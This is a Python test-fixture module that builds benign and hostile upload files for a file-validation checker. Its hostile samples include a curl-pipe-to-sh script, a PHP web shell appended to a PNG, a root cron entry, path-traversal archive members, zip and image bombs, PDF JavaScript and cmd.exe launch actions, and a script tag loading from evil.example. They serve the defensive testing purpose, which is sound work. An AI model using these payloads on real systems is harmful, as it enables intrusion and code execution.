"""Good and hostile files for the upload checks, made in memory.

Nothing is downloaded and no binary is committed: every file is built here,
byte by byte or with Pillow/openpyxl/zipfile, so a reader can see exactly what
each hostile file is. ``GOOD`` and ``HOSTILE`` list them with the name they
are uploaded under and what ``validate_upload`` must answer.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache

import openpyxl
from PIL import Image

# --- Building blocks ---------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _image(fmt: str, size: tuple[int, int] = (16, 12), **options: object) -> bytes:
    buffer = io.BytesIO()
    image = Image.new("RGB", size, (30, 120, 200))
    image.putpixel((1, 1), (250, 250, 0))
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def _zip(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip with the members in order; "mimetype" is stored, the rest deflated."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=(2024, 11, 18, 9, 0, 0))
                info.compress_type = (
                    zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
                )
                archive.writestr(info, data)
    return buffer.getvalue()


def _pdf(*objects: bytes, trailer: bytes = b"", catalog_extra: bytes = b"") -> bytes:
    """A PDF with a catalog, one page and ``objects`` numbered from 4, with a
    correct cross-reference table."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(bodies) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _object_stream(*bodies: bytes) -> bytes:
    """A compressed PDF 1.5 object stream holding ``bodies`` as objects 10, 11, …"""
    header = b" ".join(b"%d %d" % (10 + i, 0) for i in range(len(bodies))) + b" "
    # Offsets are approximate; the checker reads the content, not the index.
    data = zlib.compress(header + b" ".join(bodies), 9)
    return (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(bodies), len(header), len(data))
        + data
        + b"\nendstream"
    )


_CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
_OOXML = "application/vnd.openxmlformats-officedocument"
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Target="%s" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/officeDocument"/></Relationships>'
)


def _content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> bytes:
    extra = {"xml": "application/xml", **(defaults or {})}
    extra["rels"] = "application/vnd.openxmlformats-package.relationships+xml"
    parts = [f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in extra.items()]
    parts += [f'<Override PartName="{p}" ContentType="{ct}"/>' for p, ct in overrides.items()]
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{_CT_NS}">{"".join(parts)}</Types>'
    ).encode()


def _docx_members(main_type: str = f"{_OOXML}.wordprocessingml.document.main+xml") -> list:
    return [
        ("[Content_Types].xml", _content_types({"/word/document.xml": main_type})),
        ("_rels/.rels", _RELS % b"word/document.xml"),
        (
            "word/document.xml",
            b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            b"<w:body><w:p><w:r><w:t>Laporan kemajuan triwulan III</w:t></w:r></w:p>"
            b"</w:body></w:document>",
        ),
    ]


def _odf_members(mime: str) -> list:
    return [
        ("mimetype", mime.encode()),
        (
            "META-INF/manifest.xml",
            b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:'
            b'manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="'
            + mime.encode()
            + b'"/><manifest:file-entry manifest:full-path="content.xml" '
            b'manifest:media-type="text/xml"/></manifest:manifest>',
        ),
        (
            "content.xml",
            b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
            b'office:1.0"><office:body/></office:document-content>',
        ),
    ]


def _ole(
    streams: dict[str, bytes], *, storages: Sequence[str] = (), clsid: bytes = bytes(16)
) -> bytes:
    """A version-3 compound file ([MS-CFB]) with these streams and (empty)
    storages; streams under 4096 bytes go to the mini stream, as Office does."""
    sector, mini, cutoff = 512, 64, 4096
    end, free, fatsect = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD

    def sectors(n: int, size: int = sector) -> int:
        return -(-n // size)

    mini_data = bytearray()
    mini_fat: list[int] = []
    placed: dict[str, tuple[int, int]] = {}  # name -> (start, size)
    big = {name: data for name, data in streams.items() if len(data) >= cutoff}
    for name, data in streams.items():
        if len(data) >= cutoff:
            continue
        count = sectors(len(data), mini)
        first = len(mini_fat) if count else end
        mini_fat.extend(range(len(mini_fat) + 1, len(mini_fat) + count))
        if count:
            mini_fat.append(end)
        mini_data += data.ljust(count * mini, b"\x00")
        placed[name] = (first, len(data))

    entries = 1 + len(streams) + len(storages)
    counts = {
        "directory": sectors(entries * 128),
        "mini_fat": sectors(len(mini_fat) * 4),
        "container": sectors(len(mini_data)),
        **{f"stream:{name}": sectors(len(data)) for name, data in big.items()},
    }
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + sum(counts.values()):
        fat_sectors += 1
    fat = [fatsect] * fat_sectors
    starts: dict[str, int] = {}
    for key, count in counts.items():
        starts[key] = len(fat) if count else end
        fat.extend(range(len(fat) + 1, len(fat) + count))
        if count:
            fat.append(end)
    for name, data in big.items():
        placed[name] = (starts[f"stream:{name}"], len(data))
    fat.extend([free] * (fat_sectors * 128 - len(fat)))

    def entry(name: str, kind: int, start: int, size: int, right: int, child: int, cls: bytes):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBBIII", len(encoded), kind, 1, free, right, child)
            + cls
            + bytes(4 + 16)
            + struct.pack("<IQ", start, size)
        )

    children = [(name, 2, *placed[name]) for name in streams] + [
        (name, 1, 0, 0) for name in storages
    ]
    directory = entry(
        "Root Entry", 5, starts["container"], len(mini_data), free, 1 if children else free, clsid
    )
    for index, (name, kind, start, size) in enumerate(children, start=1):
        right = index + 1 if index < len(children) else free
        directory += entry(name, kind, start, size, right, free, bytes(16))
    directory = directory.ljust(counts["directory"] * sector, b"\x00")

    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        bytes(16),
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        bytes(6),
        0,
        fat_sectors,
        starts["directory"],
        0,
        cutoff,
        starts["mini_fat"],
        counts["mini_fat"],
        end,
        0,
    )
    header += struct.pack("<109I", *(list(range(fat_sectors)) + [free] * (109 - fat_sectors)))
    body = struct.pack(f"<{len(fat)}I", *fat) + directory
    mini_fat_bytes = struct.pack(f"<{len(mini_fat)}I", *mini_fat)
    body += mini_fat_bytes.ljust(counts["mini_fat"] * sector, b"\xff")
    body += bytes(mini_data).ljust(counts["container"] * sector, b"\x00")
    for data in big.values():
        body += data.ljust(sectors(len(data)) * sector, b"\x00")
    return header + body


def _fib(*, encrypted: bool = False, size: int = 1024) -> bytes:
    """The start of a Word 97 WordDocument stream: wIdent, nFib, flags."""
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0409, 0, flags).ljust(size, b"\x00")


def _biff(*, sheet_type: int = 0, filepass: bool = False, size: int = 600) -> bytes:
    """A Workbook stream: BOF, optionally FILEPASS, one BOUNDSHEET, EOF."""

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    name = b"Data"
    out = record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    if filepass:
        out += record(0x002F, struct.pack("<HHH", 0, 1, 1) + bytes(48))
    out += record(0x0085, struct.pack("<IBBBB", 1000, 0, sheet_type, len(name), 0) + name)
    out += record(0x000A, b"")
    return out.ljust(size, b"\x00")


def _overlapping_zip() -> bytes:
    """Two directory entries that point at the same compressed data: the
    "non-recursive" zip bomb, where n entries inflate the same bytes n times."""
    payload = b"<row/>" * 2000
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflater.compress(payload) + deflater.flush()
    crc = zlib.crc32(payload)
    first = b"xl/worksheets/sheet1.xml"
    local = (
        struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), len(payload), len(first), 0
        )
        + first
        + data
    )
    central = b""
    names = [first, b"xl/worksheets/sheet2.xml", b"xl/worksheets/sheet3.xml"]
    for name in names:
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(data),
                len(payload),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(names), len(names), len(central), len(local), 0
    )
    return local + central + end


def _set_encrypted_flag(archive: bytes) -> bytes:
    """Mark every member as encrypted (general purpose flag bit 0), as a
    password-protected zip does; the data stay readable, which is the point:
    a checker must not trust them."""
    patched = bytearray(archive)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        position = patched.find(signature)
        while position != -1:
            patched[position + flag_offset] |= 0x01
            position = patched.find(signature, position + 4)
    return bytes(patched)


# --- Good files ------------------------------------------------------------------------


def pdf() -> bytes:
    return _pdf()


def pdf_with_object_stream() -> bytes:
    return _pdf(_object_stream(b"<< /Type /Annot /Subtype /Text /Contents (Catatan) >>"))


def png() -> bytes:
    return _image("PNG")


def jpeg() -> bytes:
    return _image("JPEG", quality=85)


def webp() -> bytes:
    return _image("WEBP")


def xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "UMKM"
    sheet.append(["NIB", "Nama usaha", "Kecamatan", "Omzet"])
    sheet.append(["1234567890123", "Warung Bu Siti", "Dumai Kota", 1_500_000])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx() -> bytes:
    return _zip(_docx_members())


def pptx(*, with_chart_workbook: bool = False) -> bytes:
    members = [
        (
            "[Content_Types].xml",
            _content_types(
                {"/ppt/presentation.xml": f"{_OOXML}.presentationml.presentation.main+xml"},
                {"xlsx": f"{_OOXML}.spreadsheetml.sheet"},
            ),
        ),
        ("_rels/.rels", _RELS % b"ppt/presentation.xml"),
        (
            "ppt/presentation.xml",
            b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/'
            b'main"/>',
        ),
    ]
    if with_chart_workbook:
        # PowerPoint keeps the data of every chart as a whole workbook.
        members.append(("ppt/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx()))
    return _zip(members)


def odt() -> bytes:
    return _zip(_odf_members("application/vnd.oasis.opendocument.text"))


def ods() -> bytes:
    return _zip(_odf_members("application/vnd.oasis.opendocument.spreadsheet"))


def odp() -> bytes:
    return _zip(_odf_members("application/vnd.oasis.opendocument.presentation"))


def doc() -> bytes:
    return _ole({"WordDocument": _fib(), "\x05SummaryInformation": bytes(200), "1Table": b"x"})


def doc_large() -> bytes:
    """WordDocument big enough to live in regular sectors, not the mini stream."""
    return _ole({"WordDocument": _fib(size=9000), "1Table": bytes(5000)})


def xls() -> bytes:
    return _ole({"Workbook": _biff()})


def xls_large() -> bytes:
    return _ole({"Workbook": _biff(size=6000)})


def ppt() -> bytes:
    return _ole({"PowerPoint Document": bytes(300), "Current User": bytes(60)})


def csv_utf8() -> bytes:
    return "nib,nama_usaha,omzet\n1234567890123,Warung Bu Siti — Dumai,Rp1.500.000\n".encode()


def csv_utf8_bom() -> bytes:
    return b"\xef\xbb\xbf" + csv_utf8()


def csv_cp1252() -> bytes:
    return "nib;nama_usaha;catatan\r\n1234567890123;Café Pelabuhan;omzet ± Rp2 juta\r\n".encode(
        "cp1252"
    )


def txt() -> bytes:
    return b"Catatan verifikasi: foto kegiatan sudah lengkap.\n"


# --- Hostile files ------------------------------------------------------------------


def windows_exe() -> bytes:
    """MZ header, the DOS stub and a PE/COFF header for i386."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = (
        b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
        b"This program cannot be run in DOS mode.\r\r\n$"
    ).ljust(64, b"\x00")
    coff = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + stub + coff + bytes(0x200)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(100)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n"


def java_class() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(64)


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('/api/').then(r => r.text()).then(alert)</script></svg>\n"
    )


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def jpeg_zip_polyglot() -> bytes:
    """A real JPEG with a zip appended: image viewers show the photo, zip tools
    find the archive through the directory at the end."""
    return jpeg() + _zip([("payload.js", b"WScript.Echo('x')")])


def pdf_behind_gif() -> bytes:
    """GIF bytes first, the PDF header a few bytes later (PDF readers look for
    it anywhere in the first kilobyte)."""
    return b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + pdf()


def pdf_with_zip_appended() -> bytes:
    return pdf() + _zip([("evil.exe", windows_exe())])


def pdf_with_javascript() -> bytes:
    return _pdf(
        b"<< /S /JavaScript /JS (app.alert\\('KotaCerdas'\\)) >>",
        catalog_extra=b"/OpenAction 4 0 R ",
    )


def pdf_with_escaped_javascript() -> bytes:
    """The same action with its names spelt in #xx escapes."""
    return _pdf(
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>", catalog_extra=b"/OpenAction 4 0 R "
    )


def pdf_with_hidden_javascript() -> bytes:
    """The JavaScript action inside a compressed object stream, invisible to a
    scan of the raw bytes."""
    return _pdf(
        _object_stream(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        catalog_extra=b"/OpenAction 10 0 R ",
    )


def pdf_with_launch() -> bytes:
    return _pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> ")


def pdf_with_embedded_file() -> bytes:
    return _pdf(
        b"<< /Type /EmbeddedFile /Length 5 >>\nstream\nhello\nendstream",
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> ",
    )


def pdf_with_xfa() -> bytes:
    return _pdf(
        b"<< /Length 0 >>\nstream\n\nendstream", catalog_extra=b"/AcroForm << /XFA 4 0 R >> "
    )


def encrypted_pdf() -> bytes:
    return _pdf(
        b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>", trailer=b"/Encrypt 4 0 R "
    )


def truncated_pdf() -> bytes:
    return pdf()[:-40]


@cache
def zip_bomb_xlsx() -> bytes:
    """A workbook whose sheet inflates to 200 MB of zeros from ~200 KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            _content_types({"/xl/workbook.xml": f"{_OOXML}.spreadsheetml.sheet.main+xml"}),
        )
        archive.writestr("xl/workbook.xml", b"<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            block = bytes(1024 * 1024)
            for _ in range(200):
                member.write(block)
    return buffer.getvalue()


def overlapping_zip() -> bytes:
    return _overlapping_zip()


def docx_with_traversal() -> bytes:
    return _zip([*_docx_members(), ("../../evil", b"#!/bin/sh\n")])


def docx_with_absolute_member() -> bytes:
    return _zip([*_docx_members(), ("/etc/cron.d/evil", b"* * * * * root sh\n")])


def docx_with_duplicate_member() -> bytes:
    return _zip([*_docx_members(), ("word/document.xml", b"<w:document/>")])


def docx_with_nested_zip() -> bytes:
    return _zip([*_docx_members(), ("word/media/image1.png", _zip([("a.exe", b"x")]))])


def docx_with_hidden_program() -> bytes:
    return _zip([*_docx_members(), ("word/media/image1.png", windows_exe())])


def docx_with_lying_sizes() -> bytes:
    """A member whose directory entry claims 100 bytes but that inflates to
    2 MB: a reader trusting the header would be surprised."""
    name = b"word/document.xml"
    members = [(n, b" " * 2_000_000 if n == name.decode() else d) for n, d in _docx_members()]
    patched = bytearray(_zip(members))
    for signature, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        position = patched.find(signature)
        while position != -1:
            if patched[position + name_at : position + name_at + len(name)] == name:
                struct.pack_into("<I", patched, position + size_at, 100)
            position = patched.find(signature, position + 4)
    return bytes(patched)


def xlsx_with_vba() -> bytes:
    """An .xlsm's macro project slipped into an .xlsx."""
    return _zip([*_xlsx_members(xlsx()), ("xl/vbaProject.bin", _ole({"dir": b"x"}))])


def _xlsx_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def xlsm_renamed() -> bytes:
    """A macro-enabled workbook (its content type says so) named .xlsx."""
    members = _xlsx_members(xlsx())
    return _zip(
        [
            (
                name,
                data.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                ),
            )
            if name == "[Content_Types].xml"
            else (name, data)
            for name, data in members
        ]
    )


def docx_that_is_xlsx() -> bytes:
    return xlsx()


def encrypted_zip() -> bytes:
    return _set_encrypted_flag(docx())


def encrypted_ooxml() -> bytes:
    """What Office writes for a password-protected .xlsx: an OLE container."""
    return _ole({"EncryptionInfo": bytes(200), "EncryptedPackage": bytes(5000)})


def odt_with_basic_macros() -> bytes:
    return _zip(
        [
            *_odf_members("application/vnd.oasis.opendocument.text"),
            ("Basic/Standard/Module1.xml", b'<script:module>Shell("cmd")</script:module>'),
        ]
    )


def jar_as_docx() -> bytes:
    return _zip([("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"), ("Evil.class", java_class())])


def msi() -> bytes:
    clsid = bytes.fromhex("84100C0000000000C000000000000046")
    return _ole({"\u4840\u3f3f": bytes(100)}, clsid=clsid)


def doc_with_macros() -> bytes:
    return _ole({"WordDocument": _fib()}, storages=["Macros", "VBA"])


def doc_encrypted() -> bytes:
    return _ole({"WordDocument": _fib(encrypted=True, size=5000)})


def xls_with_xlm_macros() -> bytes:
    return _ole({"Workbook": _biff(sheet_type=0x01, size=6000)})


def xls_encrypted() -> bytes:
    return _ole({"Workbook": _biff(filepass=True)})


def png_bomb() -> bytes:
    """100 000 × 100 000 pixels declared in the header of an 80-byte file."""
    return _crafted_png(100_000, 100_000)


def png_over_the_pixel_limit() -> bytes:
    """8 000 × 8 000 = 64 MP: under Pillow's own guard, over ours (40 MP)."""
    return _crafted_png(8_000, 8_000)


def _crafted_png(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(bytes(64), 9))
        + _png_chunk(b"IEND", b"")
    )


def animated_png() -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), color) for color in ((255, 0, 0), (0, 0, 255))]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:], duration=100)
    return buffer.getvalue()


def truncated_png() -> bytes:
    return png()[:-20]


def png_with_trailing_data() -> bytes:
    return png() + b"<?php system($_GET['c']); ?>"


def gif() -> bytes:
    return _image("GIF")


def utf16_csv() -> bytes:
    return "nib,nama\n1,Warung\n".encode("utf-16")


def csv_with_control_bytes() -> bytes:
    return b"nib,nama\n1,Warung\x01\x02\x03\n"


def csv_that_is_html() -> bytes:
    return b"  \n<html><body onload=alert(1)>nib,nama</body></html>\n"


def csv_with_script_in_a_cell() -> bytes:
    return b'nib,nama\n1,"Warung <script src=//evil.example/x.js></script>"\n'


def binary_as_csv() -> bytes:
    return bytes(range(256)) * 4


# --- The catalogue ------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    name: str  # the name it is uploaded under
    make: Callable[[], bytes]
    kind: str | None = None  # good files: the kind found
    code: str | None = None  # hostile files: the refusal code
    max_bytes: int | None = None

    @property
    def id(self) -> str:
        return f"{self.make.__name__}:{self.name}"


GOOD: tuple[Sample, ...] = (
    Sample("laporan.pdf", pdf, kind="pdf"),
    Sample("LAPORAN TRIWULAN III.PDF", pdf_with_object_stream, kind="pdf"),
    Sample("foto kegiatan.png", png, kind="png"),
    Sample("foto.jpg", jpeg, kind="jpeg"),
    Sample("foto.JPEG", jpeg, kind="jpeg"),
    Sample("foto.webp", webp, kind="webp"),
    Sample("umkm.xlsx", xlsx, kind="xlsx"),
    Sample("berita acara.docx", docx, kind="docx"),
    Sample("paparan.pptx", pptx, kind="pptx"),
    Sample("paparan grafik.pptx", lambda: pptx(with_chart_workbook=True), kind="pptx"),
    Sample("notulen.odt", odt, kind="odt"),
    Sample("data.ods", ods, kind="ods"),
    Sample("paparan.odp", odp, kind="odp"),
    Sample("surat lama.doc", doc, kind="doc"),
    Sample("surat besar.doc", doc_large, kind="doc"),
    Sample("rekap lama.xls", xls, kind="xls"),
    Sample("rekap besar.xls", xls_large, kind="xls"),
    Sample("paparan lama.ppt", ppt, kind="ppt"),
    Sample("umkm.csv", csv_utf8, kind="csv"),
    Sample("umkm-excel.csv", csv_utf8_bom, kind="csv"),
    Sample("umkm-lama.csv", csv_cp1252, kind="csv"),
    Sample("catatan.txt", txt, kind="txt"),
)

HOSTILE: tuple[Sample, ...] = (
    Sample("laporan.pdf", windows_exe, code="executable"),
    Sample("setup.exe", windows_exe, code="executable"),
    Sample("foto.jpg", elf, code="executable"),
    Sample("laporan.pdf", shell_script, code="executable"),
    Sample("catatan.txt", shell_script, code="executable"),
    Sample("rekap.xlsx", java_class, code="executable"),
    Sample("peta.svg", svg_with_script, code="script"),
    Sample("peta.png", svg_with_script, code="script"),
    Sample("laporan.docx", html_page, code="script"),
    Sample("foto.jpg", html_page, code="script"),
    Sample("foto.jpg", jpeg_zip_polyglot, code="polyglot"),
    Sample("laporan.pdf", pdf_behind_gif, code="polyglot"),
    Sample("laporan.pdf", pdf_with_zip_appended, code="polyglot"),
    Sample("foto.png", png_with_trailing_data, code="polyglot"),
    Sample("laporan.pdf", pdf_with_javascript, code="script"),
    Sample("laporan.pdf", pdf_with_escaped_javascript, code="script"),
    Sample("laporan.pdf", pdf_with_hidden_javascript, code="script"),
    Sample("laporan.pdf", pdf_with_xfa, code="script"),
    Sample("laporan.pdf", pdf_with_launch, code="executable"),
    Sample("laporan.pdf", pdf_with_embedded_file, code="embedded_file"),
    Sample("laporan.pdf", encrypted_pdf, code="encrypted"),
    Sample("laporan.pdf", truncated_pdf, code="corrupt"),
    Sample("laporan.pdf", png, code="type_mismatch"),
    Sample("umkm.xlsx", zip_bomb_xlsx, code="zip_bomb"),
    Sample("umkm.xlsx", overlapping_zip, code="zip_bomb"),
    Sample("berita acara.docx", docx_with_traversal, code="unsafe_archive"),
    Sample("berita acara.docx", docx_with_absolute_member, code="unsafe_archive"),
    Sample("berita acara.docx", docx_with_duplicate_member, code="unsafe_archive"),
    Sample("berita acara.docx", docx_with_nested_zip, code="unsafe_archive"),
    Sample("berita acara.docx", docx_with_hidden_program, code="executable"),
    Sample("berita acara.docx", docx_with_lying_sizes, code="corrupt"),
    Sample("berita acara.docx", jar_as_docx, code="executable"),
    Sample("berita acara.docx", docx_that_is_xlsx, code="type_mismatch"),
    Sample("berita acara.docx", encrypted_zip, code="encrypted"),
    Sample("umkm.xlsx", xlsx_with_vba, code="macro"),
    Sample("umkm.xlsx", xlsm_renamed, code="macro"),
    Sample("umkm.xlsx", encrypted_ooxml, code="encrypted"),
    Sample("notulen.odt", odt_with_basic_macros, code="macro"),
    Sample("data.ods", odt, code="type_mismatch"),
    Sample("surat.doc", doc_with_macros, code="macro"),
    Sample("surat.doc", doc_encrypted, code="encrypted"),
    Sample("surat.doc", xls, code="type_mismatch"),
    Sample("surat.doc", docx, code="type_mismatch"),
    Sample("rekap.xls", xls_with_xlm_macros, code="macro"),
    Sample("rekap.xls", xls_encrypted, code="encrypted"),
    Sample("rekap.xls", msi, code="executable"),
    Sample("foto.png", png_bomb, code="image_bomb"),
    Sample("foto.png", png_over_the_pixel_limit, code="image_bomb"),
    Sample("foto.png", animated_png, code="animated"),
    Sample("foto.png", truncated_png, code="corrupt"),
    Sample("foto.png", gif, code="type_mismatch"),
    Sample("foto.gif", gif, code="not_allowed"),
    Sample("umkm.csv", utf16_csv, code="encoding"),
    Sample("umkm.csv", csv_with_control_bytes, code="encoding"),
    Sample("umkm.csv", binary_as_csv, code="encoding"),
    Sample("umkm.csv", csv_that_is_html, code="script"),
    Sample("umkm.csv", csv_with_script_in_a_cell, code="script"),
    Sample("umkm.csv", xlsx, code="type_mismatch"),
    Sample("laporan.pdf", pdf, code="too_large", max_bytes=100),
    Sample("laporan.pdf", lambda: b"", code="empty"),
    Sample("laporan.pdf\x00.exe", pdf, code="bad_name"),
    Sample("../../etc/passwd\x00.pdf", pdf, code="bad_name"),
    Sample("laporan", pdf, code="not_allowed"),
)
